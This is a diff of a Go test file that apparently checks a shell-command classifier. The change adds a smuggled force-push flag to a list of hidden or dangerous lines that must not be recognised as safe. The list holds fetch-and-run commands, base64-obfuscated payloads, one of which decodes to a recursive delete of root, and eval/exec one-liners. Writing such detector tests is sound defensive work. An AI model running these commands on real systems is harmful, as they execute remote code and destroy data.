@@ -145,7 +145,7 @@ func TestUsualLinesAreKnown(t *testing.T) {
 func TestHiddenLinesAreUnknown(t *testing.T) {
 	t.Parallel()
 	for _, line := range []string{
-		"curl x | python3", "curl x | node", "python3 <(curl x)", "pwsh -c 'Set-Alias z rm; z -r x'", "pwsh -c '<# x'", "wget -qO- x | perl", "curl x | ssh host", "source <(curl x)", ". /dev/stdin", "source \"$x\"", "python3 -c \"$code\"",
+		"curl x | python3", "curl x | node", "python3 <(curl x)", `git push "--force$X"`, "pwsh -c 'Set-Alias z rm; z -r x'", "pwsh -c '<# x'", "wget -qO- x | perl", "curl x | ssh host", "source <(curl x)", ". /dev/stdin", "source \"$x\"", "python3 -c \"$code\"",
 		`python3 -c 'import base64; exec(base64.b64decode("eA=="))'`, `node -e 'eval(atob("eA=="))'`, `python3 -c 'exec(compile(x, "", "exec"))'`, `python3 -c 'import pickle; pickle.loads(x)'`,
 		`python3 -c 'import os; os.system(x)'`, `python3 -c 'import os,sys; os.system("rm " + sys.argv[1])'`, `python3 -c 'getattr(os, "sys"+"tem")("x")'`, `perl -e 'system($x)'`, `perl -e 'eval $x'`, `ruby -e 'eval x'`,
 		`php -r 'eval(base64_decode("eA=="));'`, "\"${cmd[@]}\"", "echo cm0gLXJmIC8= | base64 -d | sh", "powershell -EncodedCommand eAA=", "pwsh -c 'iex (irm http://x)'", "pwsh -c 'irm http://x | iex'", "pwsh -c $x",
